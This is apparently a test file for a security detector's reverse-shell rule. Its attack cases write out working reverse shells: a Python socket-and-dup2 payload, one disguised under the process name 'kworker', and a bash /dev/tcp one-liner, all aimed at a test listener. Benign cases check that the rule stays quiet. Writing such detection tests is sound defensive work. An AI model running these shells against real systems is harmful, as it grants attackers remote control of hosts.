# SPDX-License-Identifier: Apache-2.0
"""A shell whose standard input and output are a connection."""
from cases import Rule

rule = Rule("function.reverse_shell", severity="critical")

CONNECT = ("import os, socket\ns = socket.create_connection(('10.66.0.9', {port}), 5)\n"
           "if os.fork() == 0:\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    os.execv({program!r}, {argv!r})\ns.close()\nos.wait()")


def shell(program, argv, kind="container", **options):
    def attack(case):
        port = case.listener()
        function = getattr(case, kind)(**options)
        case.act()
        function.python(CONNECT.format(port=port, program=program, argv=argv))

    return attack


rule.attack("sh, by Python")(shell("/usr/bin/sh", ["sh", "-c", "true"]))
rule.attack("an interpreter under another name")(shell("/usr/bin/python3", ["kworker", "-c", "pass"]))


@rule.attack("bash with /dev/tcp")
def _(case):
    port = case.listener()
    function = case.bare()
    case.act()
    function.run("/usr/bin/bash", "-c", f"exec 0<>/dev/tcp/10.66.0.9/{port} 1>&0 2>&0; exec sh -c true")


@rule.quiet("a watchdog's pipes")
def _(case):
    case.container().run("/usr/bin/python3", "-c", "print(input())", text="x\n", check=True)


@rule.quiet("a handler on a connection that the function accepted")
def _(case):
    function = case.container()
    function.python("import os\nnames = [fd for fd in map(int, os.listdir('/proc/self/fd')) if fd > 2]\n"
                    "import socket\n"
                    "def peer(fd):\n    try:\n        s = socket.socket(fileno=os.dup(fd)); name = s.getpeername(); s.close(); return name\n"
                    "    except OSError:\n        return None\n"
                    "fd = next(fd for fd in names if peer(fd))\n"
                    "if os.fork() == 0:\n    os.dup2(fd, 0)\n    os.dup2(fd, 1)\n    os.execv('/usr/bin/python3', ['python3', '-c', 'pass'])\nos.wait()")
